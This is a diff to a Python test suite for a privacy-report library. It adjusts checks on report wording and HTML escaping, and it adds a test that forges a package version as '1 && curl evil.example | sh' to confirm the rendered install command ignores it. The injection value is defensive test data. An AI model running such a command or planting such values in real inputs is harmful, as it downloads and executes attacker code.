@@ -144,8 +144,10 @@ def test_what_was_inferred_from_the_data_is_marked(tmp_path):
     schema = sf.Schema.draft(frame).confirm(unit="row")
     release = sf.Marginals(epsilon=1).release(sf.Table(frame, schema))
     text = words(sf.save_report(release, tmp_path / "page.html").read_text(encoding="utf-8"))
-    assert "inferred from the data (age, sex)" in text
-    assert "inferred from the data" in text and "values" in text
+    for assumption in release.provenance.public.assumptions():
+        assert assumption[1:] in text
+    for column in schema.columns:
+        assert ", ".join(column.inferred) in text
 
 
 def test_a_session_gets_a_page_of_its_answers(table, tmp_path):
@@ -196,3 +198,12 @@ def test_renderers_register_by_kind(unheard, monkeypatch):
     renderers.register("unheard of", lambda release: (section,))
     page = report_page(unheard, certify(unheard, unheard.files()), None)
     assert "My &lt;own&gt; part" in page and "1 &lt; 2" in page and "nowhere &amp; every" in page
+
+
+def test_a_forged_version_never_becomes_part_of_a_command(unheard):
+    from sfumato.privacy.certificate import certify
+
+    forged = certify(unheard, unheard.files())
+    forged["versions"]["sfumato"] = "1 && curl evil.example | sh"
+    text = words(report_page(unheard, forged, None))
+    assert "$ pip install sfumato $ sfumato verify" in text
